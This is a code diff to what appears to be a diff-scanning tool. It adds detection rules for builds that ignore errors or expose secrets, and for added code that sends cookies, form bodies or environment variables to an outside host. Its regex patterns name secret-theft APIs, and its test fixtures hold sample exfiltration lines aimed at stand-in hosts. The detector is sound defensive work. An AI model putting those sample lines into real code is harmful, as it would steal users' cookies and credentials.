@@ -3,7 +3,7 @@ import type { DiffFile, Line } from '../read/lines.ts'
 import { isCommand } from '../read/prose.ts'
 import { readShell } from '../read/shell.ts'
 import { type Hit, type Rule, wholeRule } from '../rule.ts'
-import { diff, excerpt } from './code-lines.ts'
+import { changed, diff, excerpt } from './code-lines.ts'
 import { fileRules } from './shell-files.ts'
 import { remoteRules } from './shell-remote.ts'
 import { systemRules } from './shell-system.ts'
@@ -154,6 +154,15 @@ const isPlainInstaller = (text: string): boolean =>
   !/\bsudo\b|\s(?:-\w{0,6}k\w{0,6}|--insecure|--no-check-certificate)\s/.test(text) &&
   /\|\s*(?:ba|z)?sh\b/.test(text)
 
+const letsThrough =
+  /\b(?:ignoreBuildErrors|ignoreDuringBuilds|productionBrowserSourceMaps|testFailureIgnore|ignoreFailures|skipTests)["']?\s*[:=]?\s*true\b|\b(?:abortOnError|failOnError|failOnViolation|checkReleaseBuilds|noEmitOnError)["']?\s*[:=]?\s*false\b|maven\.test\.skip>?\s*[=:]?\s*true|-DskipTests\b|\bdefine\b[^\n]{0,120}process\.env\.\w{0,40}(?:SECRET|PRIVATE|PASSWORD)|\b(?:NEXT_PUBLIC|VITE|REACT_APP|EXPO_PUBLIC|PUBLIC)_\w{0,40}(?:SECRET|PRIVATE_KEY|PASSWORD|SERVICE_ROLE)/
+
+/** All of something at once: cookies, what forms hold, the environment, the clipboard. */
+const takesAll =
+  /\bdocument\.cookie\b(?!\s*=[^=])|\brequestBody\b|\bENV\.(?:to_h|to_json|to_a|inspect)\b|\bos\.environ\b(?!\s*(?:\[|\.get))|\bprocess\.env\b(?!\s*[.[?])|\bSystem\.getenv\(\)|\benv::vars\(\)|\bos\.Environ\(\)|\bclipboard\.\w{0,20}read|\bJSON\.stringify\(\s*(?:localStorage|sessionStorage)\b|\bchrome\.cookies\.getAll\b/
+const sends =
+  /\b(?:fetch|post|sendBeacon|axios|request|urlopen|put|Post)\w{0,10}\s*\(|\.src\s*=|\bXMLHttpRequest\b|\bcurl\b|\bWebSocket\(/
+
 /** What a change does to those who build, test, read or take over the work. */
 export const supplyRules: readonly Rule[] = [
   wholeRule({
@@ -256,6 +265,69 @@ export const supplyRules: readonly Rule[] = [
         const line = testsReal(file)
         return line ? [{ detail: `Tests work on the real thing: ${excerpt(line)}`, place: line.place }] : []
       }),
+  }),
+  wholeRule({
+    id: 'build-lets-through',
+    category: 'code',
+    type: 'code_diff',
+    severity: 'medium',
+    fix: 'Let the build stop at what is wrong, and keep secrets and sources out of what it publishes.',
+    hits: [
+      diff('next.config.js', '+  typescript: { ignoreBuildErrors: true },'),
+      diff('build.gradle', '+    lintOptions { abortOnError false }'),
+      diff('pom.xml', '+  <maven.test.skip>true</maven.test.skip>'),
+      diff('vite.config.ts', '+  define: { KEY: JSON.stringify(process.env.STRIPE_SECRET_KEY) },'),
+      diff('api.ts', '+const key = process.env.NEXT_PUBLIC_SERVICE_ROLE_SECRET'),
+      diff('next.config.js', '+  productionBrowserSourceMaps: true,'),
+    ],
+    misses: [
+      diff('next.config.js', '+  typescript: { ignoreBuildErrors: false },'),
+      diff('vite.config.ts', '+  define: { VERSION: JSON.stringify(process.env.npm_package_version) },'),
+      diff('api.ts', '+const url = process.env.NEXT_PUBLIC_API_URL'),
+    ],
+    see: ({ files }) =>
+      files.flatMap(file =>
+        changed(file, 'added')
+          .filter(({ text }) => letsThrough.test(text))
+          .map(
+            (line): Hit => ({
+              detail: `The build lets through what it should stop: ${excerpt(line)}`,
+              place: line.place,
+            }),
+          ),
+      ),
+  }),
+  wholeRule({
+    id: 'code-sends-away',
+    category: 'code',
+    type: 'code_diff',
+    severity: 'blocker',
+    fix: 'Find out who wrote it and why; what people enter and what opens their accounts goes to nobody else.',
+    hits: [
+      diff('t.ts', '+new Image().src = "https://s.example.net/c?d=" + encodeURIComponent(document.cookie)'),
+      diff(
+        'x.js',
+        '+fetch("https://c.example.net", { method: "POST", body: JSON.stringify(d.requestBody) })',
+      ),
+      diff('g.rb', '+  Net::HTTP.post(URI("http://x.example.net"), ENV.to_h.to_json)'),
+      diff('A.java', '+http.post("https://x.example.net", System.getenv().toString());'),
+    ],
+    misses: [
+      diff('t.ts', '+document.cookie = "theme=dark; path=/"'),
+      diff('t.ts', '+fetch("https://api.example.org/" + process.env.API_VERSION)'),
+      diff('g.rb', '+  Net::HTTP.get(URI("https://api.example.org/status"))'),
+    ],
+    see: ({ files }) =>
+      files.flatMap(file =>
+        changed(file, 'added')
+          .filter(({ text }) => /https?:\/\//.test(text) && takesAll.test(text) && sends.test(text))
+          .map(
+            (line): Hit => ({
+              detail: `It sends what is not its own to somebody: ${excerpt(line)}`,
+              place: line.place,
+            }),
+          ),
+      ),
   }),
   wholeRule({
     id: 'docs-teach-danger',
